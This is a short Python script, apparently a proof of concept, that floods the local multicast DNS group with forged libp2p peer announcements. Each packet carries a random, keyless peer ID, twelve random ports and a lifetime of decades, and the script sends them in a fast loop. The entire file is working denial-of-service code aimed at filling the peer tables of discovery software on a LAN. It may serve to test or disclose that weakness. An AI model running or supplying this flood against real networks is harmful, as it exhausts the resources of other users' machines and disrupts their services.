#!/usr/bin/env python3
"""A stranger that answers by multicast DNS for ever more nodes, each with a dozen ports, all for years.

mdns_flood.py ADDRESS PACKETS; ADDRESS is the sender's own IPv4 address.
"""
import os
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
PTR, TXT, YEARS_S = 12, 16, 1 << 30
SERVICE = ("_p2p", "_udp", "local")
PORTS = 12
DIGITS = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def peer_id():
    """Of an Ed25519 key that nobody has."""
    raw = bytes([0, 36, 8, 1, 18, 32]) + os.urandom(32)
    number, text = int.from_bytes(raw, "big"), ""
    while number:
        number, digit = divmod(number, 58)
        text = DIGITS[digit] + text
    return "1" + text   # for the zero in front


def name(labels):
    return b"".join(bytes([len(one)]) + one.encode() for one in labels) + b"\0"


def record(labels, kind, data):
    return name(labels) + struct.pack("!HHIH", kind, 1, YEARS_S, len(data)) + data


def answer(address):
    who = (os.urandom(16).hex(), *SERVICE)
    peer, first = peer_id(), 1024 + int.from_bytes(os.urandom(2), "big") % 60000
    texts = (f"dnsaddr=/ip4/{address}/tcp/{first + i}/p2p/{peer}".encode() for i in range(PORTS))
    said = b"".join(bytes([len(text)]) + text for text in texts)
    header = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 1)
    return header + record(SERVICE, PTR, name(who)) + record(who, TXT, said)


def main():
    address, packets = sys.argv[1], int(sys.argv[2])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        for sent in range(packets):
            sender.sendto(answer(address), GROUP)
            if sent % 10 == 9:
                time.sleep(0.002)   # faster than it is read it would be lost


if __name__ == "__main__":
    main()
